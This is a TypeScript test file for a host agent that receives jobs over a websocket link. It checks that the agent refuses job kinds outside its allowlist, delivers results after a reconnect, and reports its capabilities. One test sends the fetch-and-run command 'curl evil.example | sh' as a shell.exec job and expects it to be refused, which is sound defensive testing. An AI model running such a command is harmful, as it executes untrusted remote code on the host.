// Jobs over the real link: the edge (a real websocket server) sends job requests and gets answers. The agent
// refuses kinds outside its own allowlist whatever the edge asks, and a result made while the link was down
// reaches the edge after the reconnect. Last, the agent process as systemd runs it answers jobs the same way.
import { spawn } from "node:child_process";
import { once } from "node:events";
import { fileURLToPath } from "node:url";
import type { AgentMessage, JobRequest, JobResult } from "@nebula/schema/wire/agent";
import type { WebSocket } from "ws";
import { afterEach, describe, expect, it } from "vitest";
import { peerMissing } from "../../test/peers/peers.ts";
import { EdgeLink } from "../src/connection/edge-link.ts";
import { readHostFacts } from "../src/host/host-facts.ts";
import type { JobHandlers } from "../src/jobs/job-handler.ts";
import { JobRunner } from "../src/jobs/job-runner.ts";
import { FakeEdge } from "./support/fake-edge.ts";

const TOKEN = `nca_${"j".repeat(43)}`;
const MAIN = fileURLToPath(new URL("../src/main.ts", import.meta.url));
const cleanup: (() => Promise<void>)[] = [];

afterEach(async () => {
  for (const fn of cleanup.splice(0).reverse()) await fn();
});

function job(id: string, kind: string, params: unknown = {}): JobRequest {
  return { type: "job", id, kind, params, deadline: Date.now() + 60_000, requestedBy: { id: "usr_1", name: "Ada" } };
}

/** The job_result the edge receives for this id (listening from now on, so no message slips by). */
function resultAtEdge(edge: FakeEdge, id: string): Promise<JobResult> {
  return new Promise((resolve) => {
    const listener = (message: AgentMessage) => {
      if (message.type !== "job_result" || message.id !== id) return;
      edge.off("agentMessage", listener);
      resolve(message);
    };
    edge.on("agentMessage", listener);
  });
}

async function connectedAgent(handlers: JobHandlers) {
  const edge = await FakeEdge.start(TOKEN);
  const link = new EdgeLink({ edgeUrl: edge.url, token: TOKEN, hostFacts: readHostFacts, backoff: { baseMs: 1, capMs: 2 }, random: () => 0 });
  const runner = new JobRunner({ handlers, send: (message) => link.send(message) });
  link.on("message", (message) => runner.receive(message));
  link.on("ready", () => runner.resendPending());
  cleanup.push(
    () => edge.close(),
    () => link.stop(),
  );
  const hello = once(edge, "hello");
  const ready = once(link, "ready");
  link.start();
  const [, socket] = (await hello) as [unknown, WebSocket];
  await ready;
  return { edge, link, runner, socket };
}

describe("jobs over the edge link", () => {
  it("refuses shell.exec with not_allowed even though the edge asked, and runs nothing", async () => {
    let ran = 0;
    const { edge, socket } = await connectedAgent({ "vm.list": async () => ++ran });
    const answer = resultAtEdge(edge, "job_5e11000000000001");
    socket.send(JSON.stringify(job("job_5e11000000000001", "shell.exec", { command: "curl evil.example | sh" })));
    expect(await answer).toMatchObject({ ok: false, error: { code: "not_allowed" } });
    expect(ran).toBe(0);
  });

  it("runs an allowlisted job the edge sends and answers its result", async () => {
    const { edge, socket } = await connectedAgent({ "vm.list": async () => [{ name: "win11", state: "running" }] });
    const answer = resultAtEdge(edge, "job_0000000000000a11");
    socket.send(JSON.stringify(job("job_0000000000000a11", "vm.list")));
    expect(await answer).toMatchObject({ ok: true, result: [{ name: "win11", state: "running" }] });
  });

  it("keeps a result made while the link was down and delivers it after the reconnect", async () => {
    let finish: (value: unknown) => void = () => {};
    let markStarted: () => void = () => {};
    const started = new Promise<void>((resolve) => (markStarted = resolve));
    const { edge, link, runner, socket } = await connectedAgent({
      "vm.shutdown": () => {
        markStarted();
        return new Promise((resolve) => (finish = resolve));
      },
    });
    socket.send(JSON.stringify(job("job_0000000000000b01", "vm.shutdown", { name: "win11" })));
    await started;

    const closed = once(link, "closed");
    socket.close(1012, "edge redeploy");
    await closed;
    finish({ name: "win11", action: "shutdown" });
    await runner.idle();
    expect(runner.pendingResults).toBe(1);

    const answer = resultAtEdge(edge, "job_0000000000000b01");
    await once(link, "ready");
    expect(await answer).toMatchObject({ ok: true, result: { name: "win11", action: "shutdown" } });
    expect(runner.pendingResults).toBe(0);
  });
});

const virshMissing = peerMissing("virsh");

describe("the agent process answers jobs", () => {
  it("announces its job kinds, refuses a kind outside the allowlist, and reports Docker unavailable without a socket", async () => {
    const edge = await FakeEdge.start(TOKEN);
    cleanup.push(() => edge.close());
    const child = spawn(process.execPath, [MAIN], {
      env: { PATH: process.env.PATH ?? "", NEBULA_EDGE_URL: edge.url, NEBULA_AGENT_TOKEN: TOKEN, DOCKER_SOCKET: "/nonexistent/docker.sock", LIBVIRT_URI: "test:///default" },
      stdio: ["ignore", "pipe", "pipe"],
    });
    let stderr = "";
    child.stderr.on("data", (chunk) => (stderr += chunk));
    const exited = once(child, "exit");
    cleanup.push(async () => {
      if (child.exitCode === null) {
        child.kill("SIGTERM");
        await exited;
      }
    });
    const [hello, socket] = (await Promise.race([
      once(edge, "hello"),
      exited.then(() => {
        throw new Error(`agent exited before saying hello: ${stderr}`);
      }),
    ])) as [{ capabilities: string[] }, WebSocket];
    expect(hello.capabilities).toEqual(expect.arrayContaining(["docker.list", "docker.logs", "vm.list", "vm.shutdown"]));
    expect(hello.capabilities).not.toContain("shell.exec");

    const refused = resultAtEdge(edge, "job_5e11000000000002");
    socket.send(JSON.stringify(job("job_5e11000000000002", "docker.exec", { id: "plex", cmd: ["sh"] })));
    expect(await refused).toMatchObject({ ok: false, error: { code: "not_allowed" } });

    const noDocker = resultAtEdge(edge, "job_0000000000000d01");
    socket.send(JSON.stringify(job("job_0000000000000d01", "docker.list", {})));
    expect(await noDocker).toMatchObject({ ok: false, error: { code: "unavailable", message: expect.stringContaining("/nonexistent/docker.sock") } });

    if (!virshMissing) {
      const vms = resultAtEdge(edge, "job_0000000000000e01");
      socket.send(JSON.stringify(job("job_0000000000000e01", "vm.list", {})));
      expect(await vms).toMatchObject({ ok: true, result: [{ name: "test", state: "running" }] });
    }
  });
});
